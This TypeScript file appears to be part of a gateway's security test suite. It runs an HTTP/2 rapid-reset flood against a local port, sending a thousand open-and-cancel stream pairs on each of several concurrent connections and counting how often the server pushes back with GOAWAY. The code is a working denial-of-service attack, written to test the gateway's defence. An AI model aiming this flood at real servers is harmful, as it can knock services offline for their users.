/** Opens streams and resets them, on one connection after the other, at a given rate (F2: rapid reset). */
import { connect } from 'node:net';
import { GOAWAY, HEADERS, PREFACE, RST_STREAM, SETTINGS, block, frame, pseudo } from '../../../gateway/test/support/frames.ts';
import { type ResetOrder, type ResetReport, attackOnOrder } from './orders.ts';

const PER_CONNECTION = 1000;
/** Connections at a time. */
const AT_A_TIME = 8;
const ENHANCE_YOUR_CALM = 11;
const PATIENCE_MS = 10_000;

const CANCEL = Buffer.from([0, 0, 0, 8]);
const END_ALL = 5;
const asked = block(...pseudo('/orders/x'));
/** In one piece: the server reads what opens a stream and what resets it together. */
const attack: Buffer = Buffer.concat([
  PREFACE,
  frame(SETTINGS, 0, 0),
  ...Array.from({ length: PER_CONNECTION }, (_, index) =>
    Buffer.concat([frame(HEADERS, END_ALL, 2 * index + 1, asked), frame(RST_STREAM, 0, 2 * index + 1, CANCEL)]),
  ),
]);

attackOnOrder(async ({ port, resets, perSecond, limitMs }: ResetOrder): Promise<ResetReport> => {
  const report = { sent: 0, connections: 0, closed: 0, calm: 0 };
  const startMs = performance.now();
  let begun = 0;
  const attacker = async (): Promise<void> => {
    while (begun < resets && performance.now() - startMs < limitMs) {
      const dueMs = startMs + (1000 * begun) / perSecond;
      begun += PER_CONNECTION;
      await new Promise((resolve) => setTimeout(resolve, Math.max(0, dueMs - performance.now())));
      await attackOnce(port, report);
    }
  };
  await Promise.all(Array.from({ length: AT_A_TIME }, attacker));
  return report;
});

function attackOnce(port: number, report: { -readonly [Key in keyof ResetReport]: number }): Promise<void> {
  return new Promise((resolve) => {
    const parts: Buffer[] = [];
    let isGivenUp = false;
    report.connections += 1;
    const socket = connect(port, '127.0.0.1');
    const timer = setTimeout(() => {
      isGivenUp = true;
      socket.destroy();
    }, PATIENCE_MS);
    socket.on('error', () => {}).on('data', (part: Buffer) => parts.push(part));
    socket.on('close', () => {
      clearTimeout(timer);
      if (!isGivenUp) report.closed += 1;
      if (wasCalmed(Buffer.concat(parts))) report.calm += 1;
      resolve();
    });
    // Sent: what the system has taken.
    socket.write(attack, (error) => {
      if (!error) report.sent += PER_CONNECTION;
    });
  });
}

function wasCalmed(bytes: Buffer): boolean {
  for (let at = 0; at + 17 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3))
    if (bytes[at + 3] === GOAWAY && bytes.readUInt32BE(at + 13) === ENHANCE_YOUR_CALM) return true;
  return false;
}
